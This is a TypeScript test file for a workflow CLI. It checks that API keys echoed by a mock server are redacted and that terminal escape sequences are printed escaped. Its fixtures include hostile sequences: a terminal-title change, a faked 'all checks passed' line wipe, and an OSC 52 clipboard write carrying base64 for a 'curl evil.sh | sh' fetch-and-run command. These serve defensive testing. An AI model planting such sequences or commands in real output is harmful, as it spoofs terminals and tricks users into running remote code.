/**
 * What the CLI prints is the CLI's: no configured key (whether a server echoes it whole or
 * split across streamed pieces) and no terminal control from a file, a model or a server.
 */
import { spawn } from 'node:child_process'
import { mkdtemp, readFile, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import { Writable } from 'node:stream'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { main } from '../../src/cli/main.ts'
import { startMockOpenAiServer, type MockOpenAiServer } from '../support/mockOpenAiServer.ts'

const ROOT = resolve(import.meta.dirname, '../..')
const HELLO = join(ROOT, 'tests/fixtures/cli/hello.wardflow.json')
const KEY = 'sk-test-PRINTED-0123456789abcdef'

function spawnCli(args: string[], env: Record<string, string>): Promise<{ stdout: string; stderr: string }> {
  return new Promise((done, fail) => {
    const child = spawn(process.execPath, ['bin/wardflow.mjs', ...args], {
      cwd: ROOT,
      env: { ...process.env, NO_COLOR: '1', ...env },
      stdio: ['ignore', 'pipe', 'pipe'],
    })
    let stdout = ''
    let stderr = ''
    child.stdout.on('data', (c: Buffer) => (stdout += c.toString()))
    child.stderr.on('data', (c: Buffer) => (stderr += c.toString()))
    child.on('error', fail)
    child.on('close', () => done({ stdout, stderr }))
  })
}

class Collect extends Writable {
  text = ''
  override _write(chunk: Buffer, _encoding: string, callback: () => void): void {
    this.text += chunk.toString()
    callback()
  }
}

/** Runs the CLI in this process (fast enough for a property), collecting both streams. */
async function runInProcess(args: string[], env: Record<string, string>): Promise<string> {
  const stdout = new Collect()
  const stderr = new Collect()
  await main(args, { stdout, stderr, env: { ...env } })
  return stdout.text + stderr.text
}

/** C0 controls but newline, DEL and C1 controls: none may reach a terminal from the human log. */
// eslint-disable-next-line no-control-regex -- finding control characters is the point
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/

describe('the CLI never prints a configured key', { timeout: 60_000 }, () => {
  let mock: MockOpenAiServer
  beforeAll(async () => {
    mock = await startMockOpenAiServer({ apiKey: KEY })
  })
  afterAll(async () => {
    await mock.close()
  })
  const args = (json: boolean): string[] => [
    'run',
    HELLO,
    '--base-url',
    mock.baseUrl,
    '--model',
    'mock-model',
    '--api-key-env',
    'WF_KEY',
    ...(json ? ['--json'] : []),
  ]

  it('scrubs a key a server echoes in a 401, in --json and in the readable log', async () => {
    for (const json of [true, false]) {
      mock.setScript([{ status: 401, error: `Incorrect API key provided: ${KEY}` }])
      const { stdout, stderr } = await spawnCli(args(json), { WF_KEY: KEY })
      expect(stdout).toContain('[redacted]')
      expect(stdout + stderr).not.toContain(KEY)
    }
  })

  it('property: a key streamed in pieces cut anywhere never shows, --json or not', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.string({ maxLength: 12 }),
        fc.string({ maxLength: 12 }),
        fc.array(fc.nat(KEY.length + 24), { minLength: 1, maxLength: 6 }),
        fc.boolean(),
        async (before, after, cuts, json) => {
          const text = `${before}${KEY}${after}`
          const at = [...new Set(cuts.map((c) => c % (text.length + 1)))].sort((a, b) => a - b)
          const chunks = [0, ...at].map((from, i) => text.slice(from, at[i] ?? text.length))
          mock.setScript([{ chunks: chunks.filter((c) => c !== '') }])
          const printed = await runInProcess(args(json), { WF_KEY: KEY })
          expect(printed).not.toContain(KEY)
          expect(printed).toContain('[redacted]')
        },
      ),
      { numRuns: 25 },
    )
  })
})

describe('the terminal is not the attacker’s', { timeout: 60_000 }, () => {
  let mock: MockOpenAiServer
  let file: string
  const OSC_TITLE = '\u001b]0;pwned\u0007'
  const FAKE_PASS = '\r\u001b[2K✓ all checks passed'
  const CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007'
  beforeAll(async () => {
    mock = await startMockOpenAiServer()
    const doc = JSON.parse(await readFile(HELLO, 'utf8')) as {
      metadata: { name: string }
      nodes: Array<{ data: { label: string } }>
    }
    doc.metadata.name = `Hello${OSC_TITLE}`
    for (const node of doc.nodes) node.data.label = `${node.data.label}${FAKE_PASS}\u009b2J`
    file = join(await mkdtemp(join(tmpdir(), 'wardflow-cli-')), 'hostile.wardflow.json')
    await writeFile(file, JSON.stringify(doc))
  })
  afterAll(async () => {
    await mock.close()
  })
  const args = (json: boolean) => ['run', file, '--base-url', mock.baseUrl, ...(json ? ['--json'] : [])]

  it('shows control characters from names, labels and model text escaped in the readable log', async () => {
    mock.setScript([{ chunks: ['fine ', CLIPBOARD, ' and\r\nnext', FAKE_PASS] }])
    const { stdout, stderr } = await spawnCli(args(false), {})
    expect(stdout + stderr).not.toMatch(RAW_CONTROL)
    expect(stdout).toContain('Hello\\x1b]0;pwned\\x07')
    expect(stdout).toContain('\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07')
    expect(stdout).toContain('\\x0d\\x1b[2K✓ all checks passed\\x9b2J')
    // A CRLF from a server is a line end, not a visible \r.
    expect(stdout).toContain(' and\nnext')
  })

  it('keeps --json valid JSON with every control escaped', async () => {
    mock.setScript([{ chunks: ['a', CLIPBOARD, '\u009b\u2028b'] }])
    const { stdout } = await spawnCli(args(true), {})
    expect(stdout).not.toMatch(RAW_CONTROL)
    expect(stdout).not.toContain('\u2028')
    const events = stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { type: string; nodeId?: string; text?: string })
    const text = events
      .filter((e) => e.type === 'nodeChunk' && e.nodeId === 'llm_1')
      .map((e) => e.text)
      .join('')
    expect(text).toBe(`a${CLIPBOARD}\u009b\u2028b`)
  })
})
